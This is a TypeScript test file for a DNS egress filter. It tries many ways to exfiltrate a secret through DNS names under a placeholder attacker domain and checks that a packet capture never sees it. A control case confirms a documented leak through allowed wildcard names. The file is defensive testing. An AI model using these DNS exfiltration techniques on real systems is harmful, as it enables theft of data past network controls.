// Exfiltration through denied names, checked on the upstream's side: tcpdump in the world
// namespace sees every packet that reaches the world, on every interface. The application
// puts a secret into denied names every way it can (UDP, TCP, other types, to the
// upstream, to a random address, to the proxy directly, as the second question of a
// query whose first is allowed, in an odd name under an allowed wildcard, to another
// port, over DoT); none of it ever reaches the world. The control: a name under an
// allowed wildcard carries its data to the upstream, as docs/security.md says it does
// (wildcard exfiltration is a limit of any name-based policy), and the capture sees it.
import { describe, expect, test } from "bun:test";
import { IDENTITIES, type Identity } from "../../support/attacker.ts";
import { LAB, attack, capture, useAdversarialLab } from "./support.ts";

const get = useAdversarialLab();
const run = Math.random().toString(36).slice(2, 8);
const secret = (who: Identity) => `s3cr3t${run}${IDENTITIES.indexOf(who)}`;

describe("a secret in denied names never reaches the world", () => {
  test("every way, as both identities; then the control", async () => {
    const { lab, served } = get();
    const cap = await capture(lab, []);
    try {
      for (const who of IDENTITIES) {
        const s = secret(who);
        const denied = `${s}.evil.example.com`;
        const moves: string[][] = [
          ["dns", LAB.dnsV4, "53", denied, "1", "udp"],
          ["dns", LAB.dnsV4, "53", denied, "1", "tcp"],
          ["dns", LAB.dnsV4, "53", denied, "16", "udp"], // TXT
          ["dns", LAB.dnsV6, "53", denied, "28", "udp"], // AAAA over IPv6
          ["dns", LAB.dnsV4, "53", denied, "255", "tcp"], // ANY
          ["dns", "203.0.113.201", "53", denied, "1", "udp"],
          ["dns", "127.0.0.1", "15353", denied, "1", "udp"],
          ["dns", LAB.dnsV4, "53", `${s}\\x20x.ok.example.com`, "1", "udp"], // odd, under the allowed wildcard
        ];
        for (const m of moves) expect(await attack(lab, who, m)).toMatch(/^rcode 3 ede blocked by egressctl/);
        // the second question is never forwarded: only the first decides and goes upstream
        expect(await attack(lab, who, ["multi", LAB.dnsV4, "53", "api.example.com", denied])).toBe("answered rcode 0 qdcount 1");
        // other ports and DoT: refused before they leave
        expect(await attack(lab, who, ["dns", LAB.dnsV4, "5353", denied, "1", "udp"])).toBe("PermissionError errno=1");
        expect(await attack(lab, who, ["dns", LAB.dnsV4, "853", denied, "1", "tcp"])).toMatch(/^ConnectionRefusedError/);
        await served.waitEvent((e) => e.event === "dns.denied" && e.name === denied);
      }
      // control: the documented limit, data in a name under an allowed wildcard
      const leak = `w1ldcard${run}.ok.example.com`;
      expect(await attack(lab, "nobody", ["dns", LAB.dnsV4, "53", leak, "1", "udp"])).toBe("rcode 3 ede -");
      await cap.until(`w1ldcard${run}`); // every packet before it is in the capture too
      for (const who of IDENTITIES) expect(cap.text()).not.toContain(secret(who));
      expect(cap.text()).toContain(`${LAB.sandboxV4}.`); // the capture does see the sandbox's packets
    } finally {
      await cap.stop();
    }
  });
});
